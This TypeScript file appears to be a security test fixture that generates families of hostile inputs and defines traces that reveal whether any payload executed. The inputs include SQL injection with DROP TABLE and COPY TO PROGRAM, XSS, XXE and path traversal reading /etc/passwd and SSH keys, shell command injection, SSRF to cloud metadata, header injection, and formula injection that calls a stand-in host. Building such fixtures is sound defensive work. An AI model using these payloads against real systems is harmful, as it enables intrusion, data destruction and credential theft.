/** Texts by which somebody may try to break in, or break things, by their families. */

/** What a payload would leave behind if anything ran it. */
export const TRACES = {
  /** A file in the folder of the process. */
  file: 'talkoot-hostile-executed',
  table: 'hostile_executed',
  /** In an answer: the outcome of 6679 * 6701, or a file of the system. */
  answer: /44755979|root:x:0:0/,
} as const;

const SUM = '6679*6701';
const TOUCH = `touch ${TRACES.file}`;
const NOWHERE = 'hostile.invalid';

/** Each of the one with each of the other. */
const cross = (begins: readonly string[], ends: readonly string[]): string[] =>
  begins.flatMap((begin) => ends.map((end) => `${begin}${end}`));

const characters = (...ranges: readonly (number | readonly [from: number, to: number])[]): string[] =>
  ranges.flatMap((range) => {
    const [from, to] = typeof range === 'number' ? [range, range] : range;
    return Array.from({ length: to - from + 1 }, (_, place) => String.fromCodePoint(from + place));
  });

const within = (all: readonly string[]): string[] => all.map((each) => `a${each}b`);

const inBase64 = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');

const sql = cross(
  [`'`, `"`, `')`, `\\'`, `$$`, `1`, `';`],
  [
    ' OR 1=1 --',
    '; DROP TABLE registry.organisation; --',
    `; CREATE TABLE public.${TRACES.table} (); --`,
    ` UNION SELECT ${SUM}::text --`,
    ' AND (SELECT pg_sleep(5)) IS NULL --',
    `; COPY (SELECT 1) TO PROGRAM '${TOUCH}'; --`,
    ' /*',
  ],
);

const script = cross(
  ['', `"'>`, '</title>', '-->', ']]>'],
  [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    `<a href="javascript:alert(1)">x</a>`,
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    `<style>@import '//${NOWHERE}'</style>`,
    `<base href=//${NOWHERE}>`,
    `<meta http-equiv=refresh content="0;url=//${NOWHERE}">`,
    '<details open ontoggle=alert(1)>',
  ],
);

const templates = (
  [
    ['{{', '}}'],
    ['${', '}'],
    ['#{', '}'],
    ['<%= ', ' %>'],
    ['{% ', ' %}'],
    ['[[', ']]'],
    ['*{', '}'],
    ['@(', ')'],
  ] as const
).flatMap(([open, close]) =>
  [SUM, 'process.env', `x.constructor('${TOUCH}')()`].map((each) => `${open}${each}${close}`),
);

/** Of the texts of our own catalogues. */
const messages = [
  '{name}',
  '{name, number}',
  '{n, plural, one {#} other {#}}',
  '{n, select, other {x}}',
  '{',
  '}',
  `'{'`,
  `''{x}''`,
  '<b>{x}</b>',
  '{0}{1}{2}',
];

const directory = [
  '*',
  '*)(uid=*))(|(uid=*',
  'admin)(&))',
  '*)(objectClass=*)',
  'x)(|(password=*)',
  '\\2a\\28\\29\\5c\\00',
  `' or '1'='1`,
  `' or count(/*)=1 or '`,
  '{"$gt": ""}',
  '{"$where": "sleep(5000)"}',
  `'; return 1; var x='`,
  '[$ne]=1',
];

const paths = [
  ...cross(
    ['../../../../../../', '..\\..\\..\\..\\', '%2e%2e%2f%2e%2e%2f%2e%2e%2f', '..%c0%af..%c0%af', '....//....//', '/'],
    ['etc/passwd', 'proc/self/environ', 'etc/passwd%00.csv'],
  ),
  'C:\\Windows\\win.ini',
  '\\\\hostile.invalid\\share',
  'file:///etc/passwd',
  '~/.ssh/id_rsa',
  '.',
  '..',
  'CON',
];

const commands = [
  ...cross(['; ', '| ', '&& ', '|| ', '\n', '& '], [TOUCH, 'sleep 5', 'cat /etc/passwd']),
  `$(${TOUCH})`,
  `\`${TOUCH}\``,
  `() { :; }; ${TOUCH}`,
  `-oProxyCommand=${TOUCH}`,
  '--help',
  `%COMSPEC% /c ${TOUCH}`,
];

const formats = [
  '%s'.repeat(50),
  '%n%n%n%n',
  '%x.%x.%x',
  '%1$s %2$s',
  '%99999999d',
  '%',
  '%%',
  '%00',
  '%c0%ae',
  '{:>999999999}',
  '%I %L',
  '$1 $2::text $&',
  "$` $' $$",
  '\\1 \\g<0>',
];

const controls = within(characters([0x00, 0x1f], 0x7f, 0x80, 0x85, 0x90, 0x9b, 0x9f));

const hidden = within(
  characters(
    0xad,
    0x34f,
    0x61c,
    0x115f,
    0x180e,
    [0x200b, 0x200f],
    [0x202a, 0x202e],
    [0x2060, 0x2064],
    [0x2066, 0x2069],
    0x3164,
    0xfeff,
    [0xfff9, 0xfffb],
    0xe0001,
    0xe0041,
  ),
);

const halves = [
  'a\ud800',
  'a\udfff',
  '\ud83d',
  '\ude00',
  'a\ude00\ud83db',
  '\ud800\ud800',
  'a\ufffdb',
  'a\uffffb',
  'a\ufdd0b',
  'a\u{10ffff}b',
  'a\ue000b',
  '\u{1f600}'.slice(0, 1) + '\u{1f600}',
];

const numbers = [
  '1e999',
  '-1e999',
  '1e-999999999',
  '1e1000000000',
  '9'.repeat(400),
  `0.${'0'.repeat(400)}1`,
  'NaN',
  'Infinity',
  '-0',
  '0x1F',
  '0b1',
  '1_000',
  '1,5',
  '.1',
  '1.',
  '--1',
  '\u0661\u0662\u0663',
  '9007199254740993',
  '-9223372036854775809',
  '999999999999999.99',
  '1.000000000000000000001',
];

const days = [
  '0000-00-00',
  '0000-01-01',
  '9999-99-99',
  '9999-12-31',
  '2026-02-30',
  '+275760-09-13T00:00:00Z',
  '-271821-04-20T00:00:00Z',
  '9999-12-31T23:59:59.999Z',
  '2026-01-01T25:61:61Z',
  '2026-01-01T00:00:00+99:99',
  '2026-W01-1',
  '24:00',
  'infinity',
  '-infinity',
  'epoch',
  'now()',
];

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'constructor.prototype.polluted',
  '{"__proto__":{"polluted":1}}',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'then',
  'toJSON',
  'length',
  '__typename',
  'null',
  'undefined',
  'true',
  'false',
  '[object Object]',
  'Symbol(x)',
  '__proto___01jj4mpazaf10rnfk4qdmbt03x',
];

const headers = cross(
  ['a\r\n', 'a\n', 'a\r', 'a%0d%0a', 'a\u560d\u560a', 'a\\r\\n'],
  ['Set-Cookie: a=b', `Bcc: all@${NOWHERE}`, 'HTTP/1.1 200 OK', '\r\n<p>x'],
);

const addresses = [
  `a@${NOWHERE}\r\nBcc: b@${NOWHERE}`,
  `a@${NOWHERE}, b@${NOWHERE}`,
  `a@${NOWHERE};b@${NOWHERE}`,
  `<a@${NOWHERE}> b@${NOWHERE}`,
  `"a b"@${NOWHERE}`,
  `a(comment)@${NOWHERE}`,
  'a@[127.0.0.1]',
  `=?utf-8?B?YkA=?=@${NOWHERE}`,
  `mailto:a@${NOWHERE}?bcc=b@${NOWHERE}`,
  'a\r\n.\r\nQUIT',
  `-oQ/x -X/x@${NOWHERE}`,
  `${'a'.repeat(65)}@${NOWHERE}`,
  `a@${'b.'.repeat(130)}invalid`,
  `a@b@${NOWHERE}`,
  '@',
  `a+'--@${NOWHERE}`,
];

const xml = [
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  `<!DOCTYPE x [<!ENTITY % y SYSTEM "http://${NOWHERE}/y.dtd"> %y;]><x/>`,
  `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}">]><x>&c;</x>`,
  '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></x>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--#exec cmd="cat /etc/passwd"-->',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#0;&#x1F;&#xD800;',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

/** Long runs of what a pattern may try in many ways, with an end that fits none. */
const repeated = ['a', '0', ' ', '-', '.', 'a@', 'a.', 'ä', '/', '\\', ':', 'A1-', '(', '\u200d', '\n'].map(
  (each) => `${each.repeat(Math.ceil(20_000 / each.length))}!`,
);

const long = [
  'x'.repeat(119_000),
  'x'.repeat(301),
  `a${'\u0301'.repeat(5_000)}`,
  '\u{1f468}\u200d\u{1f469}\u200d'.repeat(1_000),
  '\ufdfa'.repeat(10_000),
  `(${'(a+)+'.repeat(20)})$`,
];

const formulas = cross(
  ['=', '+', '-', '@', '\t=', '\uff1d'],
  [SUM, `cmd|' /C ${TOUCH}'!A0`, `HYPERLINK("http://${NOWHERE}/?"&A1,"x")`],
);

const spellings = [
  '\u00e9',
  'e\u0301',
  '\ufb01',
  '\u212b',
  '\u017f',
  '\u0131',
  '\u0130',
  '\u1e9e',
  '\u212a',
  '\u2460',
  '\uff1cscript\uff1e',
  '\u0440\u0430\u0443\u0440al',
  '\u0390',
  '\ufdfa',
  '\u1100\u1161\u11a8',
  '\u0344',
  '\u{1d518}',
  '\u{1f1eb}\u{1f1ee}',
  '\u0e33',
  '\u02bc\uff07\u2019',
];

const keys = [
  'organisation_',
  'organisation_01jj4mpazaf10rnfk4qdmbt03x',
  'organisation_7zzzzzzzzzzzzzzzzzzzzzzzzz',
  'organisation_zzzzzzzzzzzzzzzzzzzzzzzzzz',
  'ORGANISATION_01JJ4MPAZAF10RNFK4QDMBT03X',
  'event_01jj4mpazaf10rnfk4qdmbt03x',
  '01940000-0000-7000-8000-000000000000',
  '{01940000-0000-7000-8000-000000000000}',
];

const cursors = [
  ...[
    null,
    {},
    [],
    [null],
    [[]],
    1,
    ['code', 'x', 'x'],
    ['code', 'a\u0000', '01940000-0000-7000-8000-000000000000'],
  ].map(inBase64),
  'WyJ4Il0',
  'WyJ4',
  '====',
];

const documents = [
  '"""',
  '\\u{110000}',
  '"} { __typename }',
  '# {',
  '...F } fragment F on Query { __typename',
  '$x',
  '@include(if: true)',
  '"}],"variables":{"x":1}}',
];

const links = [
  'http://127.0.0.1:9/',
  'http://[::1]:9/',
  'http://0x7f000001:9/',
  'http://169.254.169.254/latest/meta-data/',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'gopher://127.0.0.1:9/_x',
  `//${NOWHERE}`,
  `http://a:b@${NOWHERE}/`,
  `http://${NOWHERE}\\@example.org/`,
  `https://${NOWHERE}/%00`,
  `https://${NOWHERE}/\r\nx: y`,
  `https://${'a'.repeat(3_000)}.invalid/`,
  'https://',
];

const empty = ['', ' ', '\t', '\n', '\u00a0', '\u3000', '\u2028', '\u2029', '\u2800'];

const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  sql,
  script,
  templates,
  messages,
  directory,
  paths,
  commands,
  formats,
  controls,
  hidden,
  halves,
  numbers,
  days,
  names,
  headers,
  addresses,
  xml,
  repeated,
  long,
  formulas,
  spellings,
  keys,
  cursors,
  documents,
  links,
  empty,
};

export const PAYLOADS: readonly string[] = Object.values(FAMILIES).flat();
